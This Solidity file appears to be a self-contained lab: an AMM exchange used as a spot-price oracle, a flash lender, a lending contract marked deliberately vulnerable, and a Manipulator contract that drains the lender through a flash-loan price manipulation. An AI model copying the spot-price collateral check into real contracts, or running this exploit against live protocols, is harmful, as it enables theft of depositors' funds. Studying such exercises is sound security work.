// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.30;

import {Guarded, Token} from "Parts.sol";

/// @title Exchanges two tokens along x·y = k, without a fee.
contract Exchange {
    Token public immutable base;
    Token public immutable quote;

    event Swap(address indexed by, uint256 paid, uint256 got);

    constructor(Token base_, Token quote_) {
        base = base_;
        quote = quote_;
    }

    /// @notice Price of one base token in quote tokens, 18 decimals, as it stands this moment.
    function latestAnswer() external view returns (int256) {
        return int256(quote.balanceOf(address(this)) * 1e18 / base.balanceOf(address(this)));
    }

    function swap(Token paid, uint256 amount) external returns (uint256 got) {
        Token other = paid == base ? quote : base;
        uint256 x = paid.balanceOf(address(this));
        uint256 y = other.balanceOf(address(this));
        got = y - (x * y + x + amount - 1) / (x + amount);
        paid.transferFrom(msg.sender, address(this), amount);
        other.transfer(msg.sender, got);
        emit Swap(msg.sender, amount, got);
    }
}

interface IBorrower {
    function onLoan(uint256 amount) external;
}

contract FlashLender {
    Token public immutable token;

    constructor(Token token_) {
        token = token_;
    }

    function flash(uint256 amount) external {
        uint256 before = token.balanceOf(address(this));
        token.transfer(msg.sender, amount);
        IBorrower(msg.sender).onLoan(amount);
        require(token.balanceOf(address(this)) >= before, "not repaid");
    }
}

/// @title Lends quote tokens against base tokens, at the price of this moment. DELIBERATELY VULNERABLE.
contract Lender is Guarded {
    Exchange public immutable exchange;
    Token public immutable base;
    Token public immutable quote;
    uint256 public totalLiabilities;
    mapping(address account => uint256) public deposits;
    mapping(address account => uint256) public collateral;
    mapping(address account => uint256) public debt;
    uint256 public totalCollateral;
    uint256 public totalDebt;

    event Deposit(address indexed account, uint256 amount);
    event Borrow(address indexed account, uint256 amount);

    constructor(Exchange exchange_, address guardian_) {
        exchange = exchange_;
        base = exchange_.base();
        quote = exchange_.quote();
        guardian = guardian_;
    }

    /// @notice Cash, and what is lent as far as the collateral is worth it.
    function totalAssets() external view returns (uint256) {
        uint256 worth = totalCollateral * uint256(exchange.latestAnswer()) / 1e18;
        return quote.balanceOf(address(this)) + (worth < totalDebt ? worth : totalDebt);
    }

    function deposit(uint256 amount) external whenNotPaused {
        deposits[msg.sender] += amount;
        totalLiabilities += amount;
        quote.transferFrom(msg.sender, address(this), amount);
        emit Deposit(msg.sender, amount);
    }

    function pledge(uint256 amount) external whenNotPaused {
        collateral[msg.sender] += amount;
        totalCollateral += amount;
        base.transferFrom(msg.sender, address(this), amount);
    }

    /// @notice Three quarters of what the collateral is worth at most.
    function borrow(uint256 amount) external whenNotPaused {
        debt[msg.sender] += amount;
        totalDebt += amount;
        uint256 worth = collateral[msg.sender] * uint256(exchange.latestAnswer()) / 1e18;
        require(debt[msg.sender] * 4 <= worth * 3, "too much");
        quote.transfer(msg.sender, amount);
        emit Borrow(msg.sender, amount);
    }
}

contract Manipulator is IBorrower {
    FlashLender private immutable bank;
    Exchange private immutable exchange;
    Lender private immutable lender;
    uint256 private pledged;
    uint256 private wanted;

    constructor(FlashLender bank_, Exchange exchange_, Lender lender_) {
        (bank, exchange, lender) = (bank_, exchange_, lender_);
        exchange_.base().approve(address(exchange_), type(uint256).max);
        exchange_.quote().approve(address(exchange_), type(uint256).max);
        exchange_.base().approve(address(lender_), type(uint256).max);
    }

    function attack(uint256 loan, uint256 pledge, uint256 borrow) external {
        (pledged, wanted) = (pledge, borrow);
        bank.flash(loan);
    }

    function onLoan(uint256 amount) external {
        uint256 got = exchange.swap(exchange.quote(), amount);
        lender.pledge(pledged);
        lender.borrow(wanted);
        exchange.swap(exchange.base(), got - pledged);
        exchange.quote().transfer(msg.sender, amount);
    }

    function take(Token token, address to) external {
        token.transfer(to, token.balanceOf(address(this)));
    }
}
